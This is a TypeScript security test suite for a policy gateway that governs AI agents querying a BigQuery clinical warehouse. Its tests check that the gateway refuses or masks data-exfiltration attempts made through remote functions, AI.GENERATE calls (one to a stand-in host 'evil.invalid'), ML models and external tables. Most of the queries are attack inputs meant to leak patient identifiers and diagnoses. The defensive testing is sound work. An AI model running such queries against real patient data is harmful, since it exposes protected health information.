/**
 * Threat-model rows 17, 19 and 25: functions that run elsewhere, models, and tables whose rows lie elsewhere, for an agent that is permitted whatever
 * there is (`permit (principal, action, resource)`), and for one whose policy names `reach`.
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { type ClinicCopy, copyClinic } from "../clinic-copy.ts";
import { PROJECT, type Rig, startRig } from "../rig.ts";
import { Attacker, assertHidden, assertQueryRefused, jobsRunUpstream, withPatients } from "./attacker.ts";
import { type ProtectedValues, protectedValues } from "./protected-values.ts";

const OPS = `\`${PROJECT}\`.ops`;

/** Also whatever there is in ops, but for the identifiers that no policy shows. */
const OPEN = `
@id("anything-in-ops")
@mask("none")
@approval("none")
permit (principal in Group::"clinical-agents", action, resource in Dataset::"${PROJECT}.ops");
`;

const REACH = `
@id("reach-ops")
@approval("none")
permit (principal in Group::"clinical-agents", action == Action::"reach", resource in Dataset::"${PROJECT}.ops");

@id("export-diagnoses")
@approval("none")
permit (principal in Group::"clinical-agents", action == Action::"export", resource in Table::"${PROJECT}.ehr.conditions")
when { resource in DataClass::"phi.clinical.diagnosis" || resource.path == "*" };

@id("infer-diagnoses")
@approval("none")
permit (principal in Group::"clinical-agents", action == Action::"infer", resource in Table::"${PROJECT}.ehr.conditions")
when { resource in DataClass::"phi.clinical.diagnosis" };
`;

async function start(clinic: ClinicCopy, policies: string): Promise<Rig> {
  clinic.policy("outside.cedar", () => policies);
  clinic.policy("tests.yaml", () => "version: 1\ntests: []\n");
  const rig = await startRig({ patients: 30, clinic: clinic.folder });
  rig.warehouse.loadRoutine({
    reference: { projectId: PROJECT, datasetId: "ops", routineId: "far" },
    routineType: "SCALAR_FUNCTION",
    arguments: [{ name: "x", type: { name: "x", type: "STRING" }, mode: undefined }],
    returnType: { name: "", type: "STRING" },
    returnTable: undefined,
    body: "UPPER(x)",
    description: undefined,
    remote: { endpoint: "https://far.invalid", connection: `projects/${PROJECT}/locations/us/connections/c` },
  });
  const fields = [{ name: "line", type: "STRING" as const, mode: "NULLABLE" as const }];
  const external = (tableId: string) => ({
    tableReference: { projectId: PROJECT, datasetId: "ops", tableId },
    schema: { fields },
    external: { sourceFormat: "CSV" },
  });
  await rig.warehouse.loadTable(external("files"), [{ line: "a line that nobody classified" }]);
  return rig;
}

describe("what goes outside BigQuery", () => {
  let clinic: ClinicCopy;
  let rig: Rig;
  let secrets: ProtectedValues;
  let agent: Attacker;
  const begin = (policies: string) => async () => {
    clinic = copyClinic();
    rig = await start(clinic, policies);
    secrets = await protectedValues(rig);
    agent = new Attacker(rig, await rig.token("care-summary-agent"), secrets);
  };
  const end = async () => {
    agent.close();
    await rig.close();
    clinic.remove();
  };
  const refused = (sql: string, more?: object) => assertQueryRefused(rig, agent, withPatients(sql), more);

  describe("for an agent that may do whatever there is in a dataset", () => {
    before(begin(OPEN));
    after(end);

    for (const [row, sql, what] of [
      ["17", `SELECT ${OPS}.far('x') AS a`, `reach of ${PROJECT}.ops.far`],
      ["17", `SELECT ${OPS}.far(vin) AS a FROM p`, `export of ${PROJECT}.ehr.patients.vin`],
      ["17", `SELECT IF(vin = 'x', ${OPS}.far('hit'), '') AS a FROM p`, `export of ${PROJECT}.ehr.patients.vin`],
      ["17", `SELECT ${OPS}.far('hit') AS a FROM p WHERE vin > 'M'`, `export of ${PROJECT}.ehr.patients.vin`],
      ["17", `CREATE VIEW ${OPS}.v AS SELECT ${OPS}.far('x') AS a`, `reach of ${PROJECT}.ops.far`],
      ["17", `CREATE FUNCTION ${OPS}.g(x STRING) AS (${OPS}.far(x))`, `reach of ${PROJECT}.ops.far`],
      ["17", `CREATE FUNCTION ${OPS}.g(x STRING) RETURNS STRING LANGUAGE python AS 'x'`, "effect python"],
      ["17", "SELECT AI.GENERATE(('say', vin)) AS a FROM p", `reach of ${PROJECT}.@ai.GENERATE`],
      ["17", "SELECT AI.IF(('is it', vin)) AS a FROM p", `export of ${PROJECT}.ehr.patients.vin`],
      ["17", "SELECT 1 AS a FROM p WHERE vin > 'M' AND AI.IF('x')", `export of ${PROJECT}.ehr.patients.vin`],
      ["17", "SELECT AI.GENERATE('x', endpoint => 'https://evil.invalid/') AS a", "a name of Google's"],
      ["17", "SELECT AI.GENERATE('x', connection_id => 'us.c') AS a", "connection_id of AI.GENERATE is not supported"],
      ["25", `SELECT max FROM ML.FEATURE_INFO(MODEL ${OPS}.m)`, `reach of ${PROJECT}.ops.m`],
      ["25", `SELECT * FROM ML.FEATURE_INFO(MODEL elsewhere.ops.m)`, "does not serve"],
      ["25", `SELECT * FROM ML.WEIGHTS(MODEL ${OPS}.m)`, "was not found or is not available"],
      ["25", `SELECT * FROM ML.PREDICT(MODEL ${OPS}.m, (SELECT vin FROM p))`, "was not found or is not available"],
      ["25", `SELECT * FROM ML.CONFUSION_MATRIX(MODEL ${OPS}.m)`, "named by the label's values"],
      ["19", `SELECT line FROM ${OPS}.files`, `reach of the rows of ${PROJECT}.ops.files`],
      ["19", `SELECT COUNT(*) AS n FROM ${OPS}.files`, `reach of the rows of ${PROJECT}.ops.files`],
      ["19", `CREATE TABLE ${OPS}.t AS SELECT line FROM ${OPS}.files`, `reach of the rows of ${PROJECT}.ops.files`],
    ] as const)
      it(`row ${row}: ${sql.replaceAll(OPS, "ops")} is refused`, async () => {
        const loot = await refused(sql);
        assert.match(loot.last.body, new RegExp(what));
        assert.doesNotMatch(loot.bytes, /nobody classified/);
      });
  });

  describe("for an agent whose policy names reach", () => {
    before(begin(REACH));
    after(end);

    it("row 17: a remote function gives what it was told before: that too is read", async () => {
      const loot = await refused(`SELECT ${OPS}.far(code) AS a FROM \`${PROJECT}.ehr.conditions\``);
      assert.match(loot.last.body, new RegExp(`read of the results of ${PROJECT}.ops.far \\(phi\\)`));
      // It could fail, or not, by what it was told.
      assert.match(loot.last.body, new RegExp(`infer of the results of ${PROJECT}.ops.far \\(phi\\)`));
      assert.doesNotMatch(loot.last.body, /export|reach/);
    });

    it("row 17: an identifier doesn't leave by it, nor by whether it is called", async () => {
      for (const sql of [
        `SELECT ${OPS}.far(full_name) AS a FROM p`,
        `SELECT ${OPS}.far('hit') AS a FROM p WHERE full_name = 'x'`,
        `SELECT full_name FROM p WHERE ${OPS}.far(full_name) = 'x'`,
      ])
        assert.match((await refused(sql)).last.body, new RegExp(`export of ${PROJECT}.ehr.patients.full_name`));
    });

    it("row 19: an external table is read, and nothing of it is shown unless policy says of what class it is", async () => {
      const loot = await refused(`SELECT line FROM ${OPS}.files`);
      assert.match(loot.last.body, new RegExp(`read of ${PROJECT}.ops.files.line \\(phi\\)`));
      assert.doesNotMatch(loot.last.body, /reach/);
    });
  });

  describe("for an agent that may also read what comes from there, under a mask", () => {
    const read = (mask: string) => `
      @id("read-ops")
      @mask("${mask}")
      @approval("none")
      permit (principal in Group::"clinical-agents", action in [Action::"read", Action::"infer"], resource in Dataset::"${PROJECT}.ops");`;
    before(begin(REACH + read("null")));
    after(end);

    it("rows 17 and 19: it runs, and shows nothing", async () => {
      const before = jobsRunUpstream(rig);
      await assertHidden(agent, `SELECT ${OPS}.far('hello') AS a`, ["a"]);
      await assertHidden(agent, `SELECT ${OPS}.far(code) AS a FROM \`${PROJECT}.ehr.conditions\``, ["a"]);
      const loot = await assertHidden(agent, `SELECT line FROM ${OPS}.files`, ["line"]);
      assert.doesNotMatch(loot.bytes, /nobody classified/);
      assert.equal(jobsRunUpstream(rig), before + 3);
    });
  });
});
